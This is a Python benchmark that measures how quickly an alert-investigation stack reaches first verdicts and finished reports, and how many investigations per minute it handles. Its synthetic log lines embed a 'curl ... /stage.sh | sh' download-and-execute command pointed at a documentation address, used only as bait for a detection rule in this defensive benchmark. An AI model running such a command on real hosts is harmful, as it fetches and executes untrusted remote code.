"""How long an alert waits for its first verdict, and how many investigations a minute the whole stack keeps up with.

Log lines of hosts of their own come at a steady pace; each makes an alert, and each alert an investigation with at
least three specialists. There is no floor: what is measured is the wait itself. Times are the stack's own, from the
creation of the alert to the first verdict (triage and the specialists of its evidence) and to the receipt (the report
too).
"""

from __future__ import annotations

import asyncio
import statistics
import time
from collections import Counter
from collections.abc import Sequence
from datetime import UTC, datetime
from typing import Any

from cli import session
from cli.investigate import ENDED
from cli.paging import every
from cli.session import Session
from shared.contracts.alerts import LIST_ALERTS, Alert, AlertQuery
from shared.contracts.detections import CREATE_RULE
from shared.contracts.investigations import LIST_INVESTIGATIONS, Investigation, InvestigationQuery
from shared.contracts.logs import INGEST_LOGS, IngestQuery
from tests.stack import data_folder, running_stack

_RULE_ID = "6c1e9b9e-62e4-4c77-9f0b-0e7a0f4d6a01"
_RULE = f"""\
title: A command that the benchmark has investigated
id: {_RULE_ID}
level: high
logsource: {{product: linux}}
detection: {{selection: {{message|contains: aurora-investigation-probe}}, condition: selection}}
"""
_WAIT_SECONDS = 300.0


def _line(number: int) -> bytes:
    command = f"curl -s http://203.0.113.{number % 250 + 1}/stage.sh | sh # aurora-investigation-probe {number}"
    return f"{datetime.now(UTC).isoformat()} probe-{number} root[{1000 + number}]: {command}".encode()


async def _send(api: Session, count: int, pace: float) -> None:
    due = time.perf_counter()
    for number in range(count):
        await asyncio.sleep(max(0.0, due - time.perf_counter()))
        due += 1 / pace
        query, headers = IngestQuery(source="probe"), {"Content-Type": "text/plain"}
        await api.call(INGEST_LOGS, query=query, body=_line(number), headers=headers)


async def _ended(api: Session, count: int) -> tuple[dict[str, Alert], list[Investigation]]:
    async with asyncio.timeout(_WAIT_SECONDS):
        while True:
            alerts = {item.id: item for item in await every(api, LIST_ALERTS, AlertQuery(rule_id=_RULE_ID))}
            found = [
                item
                for item in await every(api, LIST_INVESTIGATIONS, InvestigationQuery(limit=200))
                if item.status in ENDED and item.alert_ids[0] in alerts
            ]
            if len(found) >= count:
                return alerts, found
            await asyncio.sleep(1.0)


def _waits(values: Sequence[float]) -> tuple[float, float]:
    """Seconds in the middle and of the slowest twentieth."""
    cuts = statistics.quantiles(values, n=100, method="inclusive")
    return round(cuts[49], 3), round(cuts[94], 3)


async def run(count: int = 120, pace: float = 2.0) -> dict[str, Any]:
    """`count` alerts at `pace` a second. Waits are in seconds; the rate counts from the first alert to the last end."""
    with data_folder() as folder, running_stack(folder) as stack:
        async with session.opened(session.find(stack.data_dir, None)) as api:
            await api.call(CREATE_RULE, body=_RULE.encode())
            await _send(api, count, pace)
            alerts, found = await _ended(api, count)
    created = {item.id: alerts[item.alert_ids[0]].created_at for item in found}
    first = [
        (item.first_verdict_at - created[item.id]).total_seconds()
        for item in found
        if item.first_verdict_at is not None
    ]
    ends = {item.id: item.completed_at for item in found if item.completed_at is not None}
    receipts = [(end - created[name]).total_seconds() for name, end in ends.items()]
    minutes = (max(ends.values()) - min(created.values())).total_seconds() / 60
    voters = Counter(step.agent for item in found for step in item.steps if step.method == "analyze_threat")
    (first_p50, first_p95), (receipt_p50, receipt_p95) = _waits(first), _waits(receipts)
    return {
        "name": "investigations",
        "unit": "investigations a minute",
        "investigations_per_minute": round(len(found) / minutes, 1),
        "alerts_per_minute": pace * 60,
        "first_verdict_p50_s": first_p50,
        "first_verdict_p95_s": first_p95,
        "receipt_p50_s": receipt_p50,
        "receipt_p95_s": receipt_p95,
        "investigations": len(found),
        "specialists_each": round(sum(voters.values()) / len(found), 1),
        "failed": sum(item.status == "failed" for item in found),
    }
